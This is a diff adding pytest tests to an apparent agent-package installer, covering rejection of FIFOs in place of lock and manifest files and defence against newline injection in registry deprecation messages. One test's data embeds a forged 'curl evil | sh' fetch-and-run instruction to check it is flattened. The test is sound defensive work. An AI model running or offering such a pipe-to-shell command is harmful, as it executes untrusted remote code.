@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from agents import Place, aam, make_place
+from agents import Place, aam, make_place, packed
 
+from packaging_targets.formats.aam.names import PackageName
 from packaging_targets.store.journal.fingerprint import ABSENT, fingerprint
 
 Run = Callable[..., tuple[int, str, str]]
@@ -88,3 +90,27 @@ def test_nothing_is_deleted_behind_a_link(place: Place, run: Run, link: str) -> 
     assert err.startswith(f"error: `{link}` {what}\n  at {link}\n")
     assert sorted(outside.rglob("*")) == before
     assert os.readlink(place.project / link) == str(outside)
+
+
+@pytest.mark.parametrize("name", ["package.agent.lock", "package.agent.json"])
+def test_a_fifo_is_not_waited_for(place: Place, run: Run, name: str) -> None:
+    os.mkfifo(place.project / name)
+    code, _, err = run("install", "words")
+    assert (code, err) == (2, f"error: `{name}` cannot be read: it is no regular file\n  at {name}\n")
+
+
+def test_a_lock_may_name_a_fifo(place: Place, run: Run) -> None:
+    (place.root / "own.aam").write_bytes(packed("own"))
+    assert run("install", "../own.aam")[0] == 0
+    shutil.rmtree(place.home / "cache")
+    shutil.rmtree(place.project / ".agent-packages")
+    (place.root / "own.aam").unlink()
+    os.mkfifo(place.root / "own.aam")
+    code, _, err = run("install")
+    assert (code, err) == (1, "error: `../own.aam` cannot be read: it is no regular file\n  at ../own.aam\n")
+
+
+def test_a_deprecation_cannot_forge_lines(place: Place, run: Run) -> None:
+    place.registry.deprecate(PackageName.parse("words"), "", "old\nerror: all is lost\n  fix: curl evil | sh")
+    err = run("install", "words")[2]
+    assert "`words` 1.0.0 is deprecated: old error: all is lost fix: curl evil | sh\n" in err
